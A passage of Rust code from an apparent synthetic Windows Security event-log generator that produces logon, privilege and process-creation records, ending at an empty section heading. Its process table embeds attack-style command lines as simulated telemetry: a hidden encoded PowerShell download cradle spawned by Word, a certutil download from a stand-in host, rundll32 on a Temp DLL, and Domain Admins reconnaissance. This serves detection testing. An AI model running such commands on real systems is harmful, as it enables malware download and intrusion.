//! Ground truth of generated events: the System block and the EventData items of each
//! event id, in the order Windows Server 2019 and 2022 write them. The item names come from
//! [`super::event_data`], whose layouts the reader also uses, and a unit test checks that
//! each event writes the items of its layout in order.

use std::cell::RefCell;
use std::net::Ipv4Addr;

use super::event_data as data;
use super::variant as v;
use super::render as names;
use crate::decimal::{push_padded, push_u64};
use crate::fields::Fields;
use crate::seed::{fnv1a, EventRng};
use crate::sources::GenContext;
use crate::timestamp::Timestamp;
use crate::world::{Host, HostRole, User, World};

/// The Security auditing provider.
pub const SECURITY_PROVIDER: &str = "Microsoft-Windows-Security-Auditing";
const SECURITY_GUID: &str = "{54849625-5478-4994-A5BA-3E3B0328C30D}";
/// The event log service provider, which writes 1102.
pub const EVENTLOG_PROVIDER: &str = "Microsoft-Windows-Eventlog";
const EVENTLOG_GUID: &str = "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}";

/// Keywords of a successful audit event.
const AUDIT_SUCCESS: &str = "0x8020000000000000";
/// Keywords of a failed audit event.
const AUDIT_FAILURE: &str = "0x8010000000000000";

/// `%%1833`: the Impersonation impersonation level.
const IMPERSONATION: &str = "%%1833";
/// `%%1842`: Yes; `%%1843`: No.
const YES: &str = "%%1842";
const NO: &str = "%%1843";
const NULL_SID: &str = "S-1-0-0";
const SYSTEM_SID: &str = "S-1-5-18";
const ZERO_GUID: &str = "{00000000-0000-0000-0000-000000000000}";

/// Privileges Windows lists in 4672 for an administrator logon, separated as Windows
/// separates them (CR LF and three tabs).
const ADMIN_PRIVILEGES: &str = "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege";
const SYSTEM_PRIVILEGES: &str = "SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\tSeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeAuditPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege";

/// The System values that differ between event ids. The numbers are decimal text, which
/// `system` copies into numeric fields without formatting them.
struct Header {
    event_id: &'static str,
    version: &'static str,
    task: &'static str,
    keywords: &'static str,
    /// Whether the event carries a `Correlation ActivityID`, as the logon events do.
    activity: bool,
}

/// Fills the fields of one event of `ctx.variant`.
pub fn fill(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    match ctx.variant {
        v::INTERACTIVE | v::UNLOCK | v::CACHED_INTERACTIVE | v::REMOTE_INTERACTIVE | v::NETWORK | v::SERVICE => logon(ctx, fields),
        v::LOGON_FAILED => logon_failed(ctx, fields),
        v::LOGOFF => logoff(ctx, fields),
        v::EXPLICIT_CREDENTIALS => explicit_credentials(ctx, fields),
        v::SPECIAL_PRIVILEGES => special_privileges(ctx, fields),
        v::PROCESS_CREATED => process_created(ctx, fields),
        v::USER_CREATED | v::USER_DELETED => user_created_or_deleted(ctx, fields),
        v::GROUP_MEMBER_ADDED => group_member_added(ctx, fields),
        v::LOG_CLEARED => log_cleared(ctx, fields),
        v::KERBEROS_TGT => kerberos_tgt(ctx, fields),
        v::KERBEROS_SERVICE_TICKET => kerberos_service_ticket(ctx, fields),
        _ => {
            debug_assert_eq!(ctx.variant, v::NTLM_VALIDATION);
            ntlm_validation(ctx, fields);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Entities

/// Appends a random GUID in braces and in upper case, as Windows writes GUIDs.
fn push_guid(out: &mut String, rng: &mut EventRng) {
    out.push('{');
    rng.uuid_upper_into(out);
    out.push('}');
}

/// Returns the logon id of a new logon session. EventData writes it with [`push_hex`].
fn logon_id(rng: &mut EventRng) -> u64 {
    rng.range(0x2_0000, 0x3_ffff_ffff)
}

/// Returns a process id, a multiple of 4. EventData writes it with [`push_hex`].
fn process_id(rng: &mut EventRng) -> u64 {
    rng.range(0x40, 0x3fff) * 4
}

/// Appends `0x` and `value` in lower-case hexadecimal without leading zeros, the text of
/// `format!("0x{value:x}")`.
fn push_hex(out: &mut String, value: u64) {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    out.push_str("0x");
    let digits = (64 - (value | 1).leading_zeros()).div_ceil(4);
    for shift in (0..digits).rev() {
        out.push(char::from(DIGITS[((value >> (shift * 4)) & 0xf) as usize]));
    }
}

/// Appends an IPv4 address as dotted-quad text, the text of its `Display`.
fn push_ipv4(out: &mut String, address: Ipv4Addr) {
    for (i, octet) in address.octets().into_iter().enumerate() {
        if i > 0 {
            out.push('.');
        }
        push_u64(out, u64::from(octet));
    }
}

/// Appends `text` in ASCII upper case.
fn push_upper(out: &mut String, text: &str) {
    let start = out.len();
    out.push_str(text);
    out[start..].make_ascii_uppercase();
}

/// Fields of the acting account, whose override names the user drawn for it.
const SUBJECT: &[&str] = &[data::SUBJECT_USER_NAME, data::CLEARED_BY_USER_NAME];
/// Fields of the account an event is about, whose override names the user drawn for it.
const TARGET: &[&str] = &[data::TARGET_USER_NAME];

/// Picks a user whose workstation runs Windows, and returns both. The user that an override
/// names (`pinned`) replaces the drawn one, after the same draws.
fn windows_user<'w>(world: &'w World, rng: &mut EventRng, pinned: Option<usize>) -> (&'w User, &'w Host) {
    let drawn = draw_windows_user(world, rng);
    match pinned {
        Some(index) => (&world.users[index], world.workstation_of(index)),
        None => drawn,
    }
}

fn draw_windows_user<'w>(world: &'w World, rng: &mut EventRng) -> (&'w User, &'w Host) {
    for _ in 0..16 {
        let index = rng.index(world.users.len());
        let host = world.workstation_of(index);
        if host.windows {
            return (&world.users[index], host);
        }
    }
    let host = world.hosts.iter().find(|h| h.windows && h.role == HostRole::Workstation).unwrap_or(&world.hosts[0]);
    (&world.users[host.owner.unwrap_or(0)], host)
}

/// Picks a Windows member server, or a domain controller when the world has none.
fn windows_server<'w>(world: &'w World, rng: &mut EventRng) -> &'w Host {
    match world.pick_server(rng, |h| h.windows && h.role == HostRole::Server) {
        Some(server) => server,
        None => domain_controller(world, rng),
    }
}

fn domain_controller<'w>(world: &'w World, rng: &mut EventRng) -> &'w Host {
    world.pick_server(rng, |h| h.role == HostRole::DomainController).unwrap_or(&world.hosts[0])
}

/// Picks an administrator, for events that only administrators cause. The user that an
/// override names (`pinned`) replaces the drawn one, after the same draws.
fn admin_user<'w>(world: &'w World, rng: &mut EventRng, pinned: Option<usize>) -> &'w User {
    let drawn = draw_admin_user(world, rng);
    pinned.map_or(drawn, |index| &world.users[index])
}

fn draw_admin_user<'w>(world: &'w World, rng: &mut EventRng) -> &'w User {
    for _ in 0..16 {
        let user = rng.pick(&world.users);
        if user.admin {
            return user;
        }
    }
    &world.users[0]
}

// ---------------------------------------------------------------------------------------------
// System

fn system(ctx: &mut GenContext<'_>, fields: &mut Fields, header: &Header, host: &Host) {
    let (provider, provider_guid) = if header.event_id == "1102" {
        (EVENTLOG_PROVIDER, EVENTLOG_GUID)
    } else {
        (SECURITY_PROVIDER, SECURITY_GUID)
    };
    // Windows stores TimeCreated in 100-nanosecond units and renders nine digits.
    let time = Timestamp(ctx.time.0 - ctx.time.0.rem_euclid(100));
    // lsass.exe writes the Security events and keeps its process id until a reboot.
    let lsass = 500 + (fnv1a(host.hostname.as_bytes()) % 300) as i64 * 4;
    let process_id = if header.event_id == "1102" { lsass + 780 } else { lsass };

    fields.str(names::PROVIDER_NAME, provider);
    fields.str(names::PROVIDER_GUID, provider_guid);
    fields.num_text(names::EVENT_ID, header.event_id);
    fields.num_text(names::VERSION, header.version);
    fields.num_text(names::LEVEL, if header.event_id == "1102" { "4" } else { "0" });
    fields.num_text(names::TASK, header.task);
    fields.num_text(names::OPCODE, "0");
    fields.str(names::KEYWORDS, header.keywords);
    fields.with(names::TIME_CREATED, |out| push_time_created(out, time));
    fields.int(names::EVENT_RECORD_ID, 4_000_000 + ctx.index as i64 * 5 + ctx.rng.below(5) as i64);
    if header.activity {
        fields.with(names::ACTIVITY_ID, |out| push_guid(out, &mut ctx.rng));
    }
    fields.int(names::PROCESS_ID, process_id);
    fields.int(names::THREAD_ID, ctx.rng.range(100, 9000) as i64 * 4);
    fields.str(names::CHANNEL, "Security");
    // Windows keeps the NetBIOS-style upper-case host name in front of the DNS domain.
    fields.with(names::COMPUTER, |out| {
        out.push_str(&host.hostname);
        out.push('.');
        out.push_str(&ctx.world.domain);
    });
}

thread_local! {
    /// The whole second of the last `TimeCreated` written on this thread, and its text up to
    /// the fraction. Several events fall in one second, and working out the calendar date and
    /// time costs more than copying them.
    static TIME_CREATED_SECOND: RefCell<(i64, String)> = const { RefCell::new((i64::MIN, String::new())) };
}

/// Appends `time` as `TimeCreated SystemTime` writes it, the text of `write_rfc3339(out, 9)`:
/// UTC with nine fractional digits and a `Z`.
fn push_time_created(out: &mut String, time: Timestamp) {
    let second = time.secs();
    TIME_CREATED_SECOND.with_borrow_mut(|(cached, text)| {
        if *cached != second {
            text.clear();
            Timestamp(second.saturating_mul(1_000_000_000)).write_rfc3339_offset(text, 0, 0);
            *cached = second;
        }
        out.push_str(text);
    });
    out.push('.');
    push_padded(out, u64::from(time.subsec_nanos()), 9);
    out.push('Z');
}

/// Fills the Subject of events a machine raises for itself: the computer account in the
/// SYSTEM logon session.
fn subject_system(fields: &mut Fields, world: &World, host: &Host) {
    fields.str(data::SUBJECT_USER_SID, SYSTEM_SID);
    fields.with(data::SUBJECT_USER_NAME, |out| {
        out.push_str(&host.hostname);
        out.push('$');
    });
    fields.str(data::SUBJECT_DOMAIN_NAME, &world.netbios_domain);
    fields.str(data::SUBJECT_LOGON_ID, "0x3e7");
}

fn subject_user(fields: &mut Fields, world: &World, user: &User, rng: &mut EventRng) {
    fields.str(data::SUBJECT_USER_SID, &user.sid);
    fields.str(data::SUBJECT_USER_NAME, &user.username);
    fields.str(data::SUBJECT_DOMAIN_NAME, &world.netbios_domain);
    fields.with(data::SUBJECT_LOGON_ID, |out| push_hex(out, logon_id(rng)));
}

fn subject_null(fields: &mut Fields) {
    fields.str(data::SUBJECT_USER_SID, NULL_SID);
    fields.str(data::SUBJECT_USER_NAME, "-");
    fields.str(data::SUBJECT_DOMAIN_NAME, "-");
    fields.str(data::SUBJECT_LOGON_ID, "0x0");
}

// ---------------------------------------------------------------------------------------------
// Logon and logoff

/// The fields of a 4624 that depend on the logon type.
struct LogonShape {
    logon_type: &'static str,
    process_name: &'static str,
    package: &'static str,
    ntlm: bool,
}

fn logon(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let header = Header {
        event_id: "4624",
        version: "2",
        task: "12544",
        keywords: AUDIT_SUCCESS,
        activity: true,
    };
    let pinned = ctx.pinned_user(TARGET);
    let (user, workstation) = windows_user(world, &mut ctx.rng, pinned);
    let (host, shape) = match ctx.variant {
        v::NETWORK => {
            let host = if ctx.rng.chance(600) { windows_server(world, &mut ctx.rng) } else { domain_controller(world, &mut ctx.rng) };
            let ntlm = ctx.rng.chance(250);
            let (process_name, package) = if ntlm { ("NtLmSsp ", "NTLM") } else { ("Kerberos", "Kerberos") };
            (host, LogonShape { logon_type: "3", process_name, package, ntlm })
        }
        v::SERVICE => {
            let host = if ctx.rng.chance(500) { workstation } else { windows_server(world, &mut ctx.rng) };
            (host, LogonShape { logon_type: "5", process_name: "Advapi  ", package: "Negotiate", ntlm: false })
        }
        v::REMOTE_INTERACTIVE => {
            let host = windows_server(world, &mut ctx.rng);
            (host, LogonShape { logon_type: "10", process_name: "User32 ", package: "Negotiate", ntlm: false })
        }
        other => {
            let logon_type = match other {
                v::UNLOCK => "7",
                v::CACHED_INTERACTIVE => "11",
                _ => "2",
            };
            (workstation, LogonShape { logon_type, process_name: "User32 ", package: "Negotiate", ntlm: false })
        }
    };
    system(ctx, fields, &header, host);

    // Service logons run as a built-in account most of the time.
    let service_account = match ctx.rng.below(10) {
        0..=4 => Some((SYSTEM_SID, "SYSTEM", "0x3e7")),
        5..=6 => Some(("S-1-5-20", "NETWORK SERVICE", "0x3e4")),
        7 => Some(("S-1-5-19", "LOCAL SERVICE", "0x3e5")),
        _ => None,
    };
    match shape.logon_type {
        "3" => subject_null(fields),
        _ => subject_system(fields, world, host),
    }
    let target_logon = logon_id(&mut ctx.rng);
    match (shape.logon_type, service_account) {
        ("5", Some((sid, name, id))) => {
            fields.str(data::TARGET_USER_SID, sid);
            fields.str(data::TARGET_USER_NAME, name);
            fields.str(data::TARGET_DOMAIN_NAME, "NT AUTHORITY");
            fields.str(data::TARGET_LOGON_ID, id);
        }
        ("5", None) => {
            let suffix = ctx.rng.range(1200, 1299);
            fields.with(data::TARGET_USER_SID, |out| {
                out.push_str(&world.domain_sid);
                out.push('-');
                push_u64(out, suffix);
            });
            fields.str(data::TARGET_USER_NAME, ctx.rng.pick_str(&["svc_sql", "svc_backup", "svc_iis", "svc_monitor"]));
            fields.str(data::TARGET_DOMAIN_NAME, &world.netbios_domain);
            fields.with(data::TARGET_LOGON_ID, |out| push_hex(out, target_logon));
        }
        _ => {
            fields.str(data::TARGET_USER_SID, &user.sid);
            fields.str(data::TARGET_USER_NAME, &user.username);
            fields.str(data::TARGET_DOMAIN_NAME, &world.netbios_domain);
            fields.with(data::TARGET_LOGON_ID, |out| push_hex(out, target_logon));
        }
    }
    fields.str(data::LOGON_TYPE, shape.logon_type);
    fields.str(data::LOGON_PROCESS_NAME, shape.process_name);
    fields.str(data::AUTHENTICATION_PACKAGE_NAME, shape.package);

    let interactive = matches!(shape.logon_type, "2" | "7" | "10" | "11");
    let workstation_name = match shape.logon_type {
        "3" if shape.ntlm => workstation.hostname.as_str(),
        "3" | "5" => "-",
        _ => host.hostname.as_str(),
    };
    fields.str(data::WORKSTATION_NAME, workstation_name);
    if shape.ntlm || matches!(shape.logon_type, "5" | "11") {
        fields.str(data::LOGON_GUID, ZERO_GUID);
    } else {
        fields.with(data::LOGON_GUID, |out| push_guid(out, &mut ctx.rng));
    }
    fields.str(data::TRANSMITTED_SERVICES, "-");
    fields.str(data::LM_PACKAGE_NAME, if shape.ntlm { "NTLM V2" } else { "-" });
    fields.str(data::KEY_LENGTH, if shape.ntlm { "128" } else { "0" });
    match shape.logon_type {
        "3" => {
            fields.str(data::PROCESS_ID, "0x0");
            fields.str(data::PROCESS_NAME, "-");
        }
        "5" => {
            let services = 0x270 + ctx.rng.below(0x40) * 4;
            fields.with(data::PROCESS_ID, |out| push_hex(out, services));
            fields.str(data::PROCESS_NAME, "C:\\Windows\\System32\\services.exe");
        }
        _ => {
            fields.with(data::PROCESS_ID, |out| push_hex(out, process_id(&mut ctx.rng)));
            fields.str(data::PROCESS_NAME, "C:\\Windows\\System32\\svchost.exe");
        }
    }
    match shape.logon_type {
        "3" => {
            fields.ipv4(data::IP_ADDRESS, workstation.ip);
            fields.with(data::IP_PORT, |out| push_u64(out, ctx.rng.range(49_152, 65_535)));
        }
        "10" => {
            fields.ipv4(data::IP_ADDRESS, workstation.ip);
            fields.str(data::IP_PORT, "0");
        }
        "5" => {
            fields.str(data::IP_ADDRESS, "-");
            fields.str(data::IP_PORT, "-");
        }
        _ => {
            fields.str(data::IP_ADDRESS, "127.0.0.1");
            fields.str(data::IP_PORT, "0");
        }
    }
    fields.str(data::IMPERSONATION_LEVEL, IMPERSONATION);
    fields.str(data::RESTRICTED_ADMIN_MODE, if shape.logon_type == "10" { NO } else { "-" });
    fields.str(data::TARGET_OUTBOUND_USER_NAME, "-");
    fields.str(data::TARGET_OUTBOUND_DOMAIN_NAME, "-");
    fields.str(data::VIRTUAL_ACCOUNT, NO);
    // An administrator's interactive logon gets a split token: two linked logon sessions.
    let elevated = shape.logon_type == "5" || user.admin;
    let linked = if interactive && user.admin { logon_id(&mut ctx.rng) } else { 0 };
    fields.with(data::TARGET_LINKED_LOGON_ID, |out| push_hex(out, linked));
    fields.str(data::ELEVATED_TOKEN, if elevated { YES } else { NO });
}

/// The NTSTATUS pairs of a failed logon, with the FailureReason message id and a weight.
const FAILURES: &[(&str, &str, &str, u32)] = &[
    ("0xc000006d", "0xc000006a", "%%2313", 60),
    ("0xc000006d", "0xc0000064", "%%2313", 25),
    ("0xc0000234", "0x0", "%%2307", 8),
    ("0xc000006e", "0xc0000072", "%%2310", 4),
    ("0xc000006e", "0xc0000070", "%%2311", 3),
];

/// The weights of [`FAILURES`], for `EventRng::weighted`.
const FAILURE_WEIGHTS: [u32; FAILURES.len()] = {
    let mut weights = [0; FAILURES.len()];
    let mut i = 0;
    while i < weights.len() {
        weights[i] = FAILURES[i].3;
        i += 1;
    }
    weights
};

const GUESSED_NAMES: &[&str] = &["administrator", "admin", "test", "user", "guest", "scanner", "backup", "sqladmin"];

fn logon_failed(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let header = Header {
        event_id: "4625",
        version: "0",
        task: "12544",
        keywords: AUDIT_FAILURE,
        activity: true,
    };
    let (status, sub_status, reason, _) = FAILURES[ctx.rng.weighted(&FAILURE_WEIGHTS)];
    let pinned = ctx.pinned_user(TARGET);
    let (user, workstation) = windows_user(world, &mut ctx.rng, pinned);
    let network = ctx.rng.chance(700);
    let host = if network { windows_server(world, &mut ctx.rng) } else { workstation };
    system(ctx, fields, &header, host);

    if network {
        subject_null(fields);
    } else {
        subject_system(fields, world, host);
    }
    fields.str(data::TARGET_USER_SID, NULL_SID);
    let name = if sub_status == "0xc0000064" { ctx.rng.pick_str(GUESSED_NAMES) } else { user.username.as_str() };
    fields.str(data::TARGET_USER_NAME, name);
    fields.str(data::TARGET_DOMAIN_NAME, &world.netbios_domain);
    fields.str(data::STATUS, status);
    fields.str(data::FAILURE_REASON, reason);
    fields.str(data::SUB_STATUS, sub_status);
    if network {
        // Password spraying and RDP brute force arrive from outside as NTLM network logons.
        let external = ctx.rng.chance(400);
        fields.str(data::LOGON_TYPE, "3");
        fields.str(data::LOGON_PROCESS_NAME, "NtLmSsp ");
        fields.str(data::AUTHENTICATION_PACKAGE_NAME, "NTLM");
        fields.str(data::WORKSTATION_NAME, if external { "-" } else { &workstation.hostname });
        fields.str(data::TRANSMITTED_SERVICES, "-");
        fields.str(data::LM_PACKAGE_NAME, "-");
        fields.str(data::KEY_LENGTH, "0");
        fields.str(data::PROCESS_ID, "0x0");
        fields.str(data::PROCESS_NAME, "-");
        let address = if external { *ctx.rng.pick(&world.external_addresses) } else { workstation.ip };
        fields.ipv4(data::IP_ADDRESS, address);
        fields.with(data::IP_PORT, |out| push_u64(out, ctx.rng.range(49_152, 65_535)));
    } else {
        fields.str(data::LOGON_TYPE, "2");
        fields.str(data::LOGON_PROCESS_NAME, "User32 ");
        fields.str(data::AUTHENTICATION_PACKAGE_NAME, "Negotiate");
        fields.str(data::WORKSTATION_NAME, &host.hostname);
        fields.str(data::TRANSMITTED_SERVICES, "-");
        fields.str(data::LM_PACKAGE_NAME, "-");
        fields.str(data::KEY_LENGTH, "0");
        fields.with(data::PROCESS_ID, |out| push_hex(out, process_id(&mut ctx.rng)));
        fields.str(data::PROCESS_NAME, "C:\\Windows\\System32\\svchost.exe");
        fields.str(data::IP_ADDRESS, "127.0.0.1");
        fields.str(data::IP_PORT, "0");
    }
}

fn logoff(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let header = Header {
        event_id: "4634",
        version: "0",
        task: "12545",
        keywords: AUDIT_SUCCESS,
        activity: false,
    };
    let pinned = ctx.pinned_user(TARGET);
    let (user, workstation) = windows_user(world, &mut ctx.rng, pinned);
    let network = ctx.rng.chance(800);
    let host = if network { windows_server(world, &mut ctx.rng) } else { workstation };
    system(ctx, fields, &header, host);
    fields.str(data::TARGET_USER_SID, &user.sid);
    fields.str(data::TARGET_USER_NAME, &user.username);
    fields.str(data::TARGET_DOMAIN_NAME, &world.netbios_domain);
    fields.with(data::TARGET_LOGON_ID, |out| push_hex(out, logon_id(&mut ctx.rng)));
    fields.str(data::LOGON_TYPE, if network { "3" } else { ctx.rng.pick_str(&["2", "7", "11"]) });
}

fn explicit_credentials(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let header = Header {
        event_id: "4648",
        version: "0",
        task: "12544",
        keywords: AUDIT_SUCCESS,
        activity: true,
    };
    let pinned = ctx.pinned_user(SUBJECT);
    let (user, workstation) = windows_user(world, &mut ctx.rng, pinned);
    let server = windows_server(world, &mut ctx.rng);
    let pinned = ctx.pinned_user(TARGET);
    let target = admin_user(world, &mut ctx.rng, pinned);
    system(ctx, fields, &header, workstation);

    subject_user(fields, world, user, &mut ctx.rng);
    fields.str(data::LOGON_GUID, ZERO_GUID);
    fields.with(data::TARGET_USER_NAME, |out| {
        out.push_str("adm-");
        out.push_str(&target.username);
    });
    fields.str(data::TARGET_DOMAIN_NAME, &world.netbios_domain);
    fields.with(data::TARGET_LOGON_GUID, |out| push_guid(out, &mut ctx.rng));
    // Remote Desktop with saved credentials, or RunAs through the Secondary Logon service.
    if ctx.rng.chance(600) {
        fields.str(data::TARGET_SERVER_NAME, &server.hostname);
        fields.with(data::TARGET_INFO, |out| {
            out.push_str("TERMSRV/");
            out.push_str(&server.fqdn);
        });
        fields.with(data::PROCESS_ID, |out| push_hex(out, process_id(&mut ctx.rng)));
        fields.str(data::PROCESS_NAME, "C:\\Windows\\System32\\mstsc.exe");
        fields.str(data::IP_ADDRESS, "-");
        fields.str(data::IP_PORT, "-");
    } else {
        fields.str(data::TARGET_SERVER_NAME, "localhost");
        fields.str(data::TARGET_INFO, "localhost");
        fields.with(data::PROCESS_ID, |out| push_hex(out, process_id(&mut ctx.rng)));
        fields.str(data::PROCESS_NAME, "C:\\Windows\\System32\\svchost.exe");
        fields.str(data::IP_ADDRESS, "::1");
        fields.str(data::IP_PORT, "0");
    }
}

fn special_privileges(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let header = Header {
        event_id: "4672",
        version: "0",
        task: "12548",
        keywords: AUDIT_SUCCESS,
        activity: true,
    };
    let (_, workstation) = windows_user(world, &mut ctx.rng, None);
    let host = if ctx.rng.chance(500) { workstation } else { windows_server(world, &mut ctx.rng) };
    system(ctx, fields, &header, host);
    if ctx.rng.chance(650) {
        fields.str(data::SUBJECT_USER_SID, SYSTEM_SID);
        fields.str(data::SUBJECT_USER_NAME, "SYSTEM");
        fields.str(data::SUBJECT_DOMAIN_NAME, "NT AUTHORITY");
        fields.str(data::SUBJECT_LOGON_ID, "0x3e7");
        fields.str(data::PRIVILEGE_LIST, SYSTEM_PRIVILEGES);
    } else {
        let pinned = ctx.pinned_user(SUBJECT);
        let admin = admin_user(world, &mut ctx.rng, pinned);
        subject_user(fields, world, admin, &mut ctx.rng);
        fields.str(data::PRIVILEGE_LIST, ADMIN_PRIVILEGES);
    }
}

// ---------------------------------------------------------------------------------------------
// Process creation

/// One kind of process start: parent image, new image, command line (`{user}` stands for
/// the user name), whether SYSTEM starts it, TokenElevationType, mandatory label, weight.
struct ProcessStart {
    parent: &'static str,
    image: &'static str,
    command_line: &'static str,
    system: bool,
    elevation: &'static str,
    label: &'static str,
    weight: u32,
}

const EXPLORER: &str = "C:\\Windows\\explorer.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const SERVICES: &str = "C:\\Windows\\System32\\services.exe";
const SVCHOST: &str = "C:\\Windows\\System32\\svchost.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const WINWORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
/// `%%1936` full token, `%%1937` elevated token, `%%1938` limited token.
const FULL: &str = "%%1936";
const ELEVATED: &str = "%%1937";
const LIMITED: &str = "%%1938";
const MEDIUM: &str = "S-1-16-8192";
const HIGH: &str = "S-1-16-12288";
const SYSTEM_LABEL: &str = "S-1-16-16384";

const PROCESS_STARTS: &[ProcessStart] = &[
    ProcessStart { parent: EXPLORER, image: "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", command_line: "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ", system: false, elevation: LIMITED, label: MEDIUM, weight: 20 },
    ProcessStart { parent: EXPLORER, image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", command_line: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ", system: false, elevation: LIMITED, label: MEDIUM, weight: 10 },
    ProcessStart { parent: EXPLORER, image: "C:\\Windows\\System32\\notepad.exe", command_line: "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\{user}\\Documents\\notes.txt", system: false, elevation: LIMITED, label: MEDIUM, weight: 6 },
    ProcessStart { parent: EXPLORER, image: CMD, command_line: "\"C:\\Windows\\system32\\cmd.exe\" ", system: false, elevation: LIMITED, label: MEDIUM, weight: 5 },
    ProcessStart { parent: CMD, image: "C:\\Windows\\System32\\ipconfig.exe", command_line: "ipconfig  /all", system: false, elevation: LIMITED, label: MEDIUM, weight: 3 },
    ProcessStart { parent: CMD, image: "C:\\Windows\\System32\\whoami.exe", command_line: "whoami  /groups", system: false, elevation: LIMITED, label: MEDIUM, weight: 2 },
    ProcessStart { parent: SERVICES, image: SVCHOST, command_line: "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", system: true, elevation: FULL, label: SYSTEM_LABEL, weight: 15 },
    ProcessStart { parent: SVCHOST, image: "C:\\Windows\\System32\\taskhostw.exe", command_line: "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", system: false, elevation: LIMITED, label: MEDIUM, weight: 8 },
    ProcessStart { parent: SVCHOST, image: "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", command_line: "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", system: true, elevation: FULL, label: SYSTEM_LABEL, weight: 6 },
    ProcessStart { parent: SERVICES, image: "C:\\Program Files\\Windows Defender\\MsMpEng.exe", command_line: "\"C:\\Program Files\\Windows Defender\\MsMpEng.exe\"", system: true, elevation: FULL, label: SYSTEM_LABEL, weight: 2 },
    ProcessStart { parent: EXPLORER, image: POWERSHELL, command_line: "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", system: false, elevation: ELEVATED, label: HIGH, weight: 3 },
    ProcessStart { parent: CMD, image: "C:\\Windows\\System32\\net.exe", command_line: "net  group \"Domain Admins\" /domain", system: false, elevation: LIMITED, label: MEDIUM, weight: 1 },
    ProcessStart { parent: WINWORD, image: POWERSHELL, command_line: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", system: false, elevation: LIMITED, label: MEDIUM, weight: 1 },
    ProcessStart { parent: CMD, image: "C:\\Windows\\System32\\certutil.exe", command_line: "certutil  -urlcache -split -f http://files-share.example.com/update.exe C:\\Users\\Public\\update.exe", system: false, elevation: LIMITED, label: MEDIUM, weight: 1 },
    ProcessStart { parent: POWERSHELL, image: "C:\\Windows\\System32\\rundll32.exe", command_line: "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Users\\{user}\\AppData\\Local\\Temp\\lib.dll,Start", system: false, elevation: LIMITED, label: MEDIUM, weight: 1 },
];

/// The weights of [`PROCESS_STARTS`], for `EventRng::weighted`.
const PROCESS_WEIGHTS: [u32; PROCESS_STARTS.len()] = {
    let mut weights = [0; PROCESS_STARTS.len()];
    let mut i = 0;
    while i < weights.len() {
        weights[i] = PROCESS_STARTS[i].weight;
        i += 1;
    }
    weights
};

fn process_created(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let header = Header {
        event_id: "4688",
        version: "2",
        task: "13312",
        keywords: AUDIT_SUCCESS,
        activity: false,
    };
    let mut start = &PROCESS_STARTS[ctx.rng.weighted(&PROCESS_WEIGHTS)];
    let pinned = ctx.pinned_user(SUBJECT);
    // A user that an override names starts a user process, not a system one.
    for _ in 0..16 {
        if !start.system || pinned.is_none() {
            break;
        }
        start = &PROCESS_STARTS[ctx.rng.weighted(&PROCESS_WEIGHTS)];
    }
    let (user, workstation) = windows_user(world, &mut ctx.rng, pinned);
    let host = if start.system && ctx.rng.chance(400) { windows_server(world, &mut ctx.rng) } else { workstation };
    system(ctx, fields, &header, host);

    if start.system {
        subject_system(fields, world, host);
    } else {
        subject_user(fields, world, user, &mut ctx.rng);
    }
    fields.with(data::NEW_PROCESS_ID, |out| push_hex(out, process_id(&mut ctx.rng)));
    fields.str(data::NEW_PROCESS_NAME, start.image);
    fields.str(data::TOKEN_ELEVATION_TYPE, start.elevation);
    fields.with(data::PROCESS_ID, |out| push_hex(out, process_id(&mut ctx.rng)));
    fields.with(data::COMMAND_LINE, |out| {
        let mut rest = start.command_line;
        while let Some((before, after)) = rest.split_once("{user}") {
            out.push_str(before);
            out.push_str(&user.username);
            rest = after;
        }
        out.push_str(rest);
    });
    fields.str(data::TARGET_USER_SID, NULL_SID);
    fields.str(data::TARGET_USER_NAME, "-");
    fields.str(data::TARGET_DOMAIN_NAME, "-");
    fields.str(data::TARGET_LOGON_ID, "0x0");
    fields.str(data::PARENT_PROCESS_NAME, start.parent);
    fields.str(data::MANDATORY_LABEL, start.label);
}

// ---------------------------------------------------------------------------------------------
// Account and group management

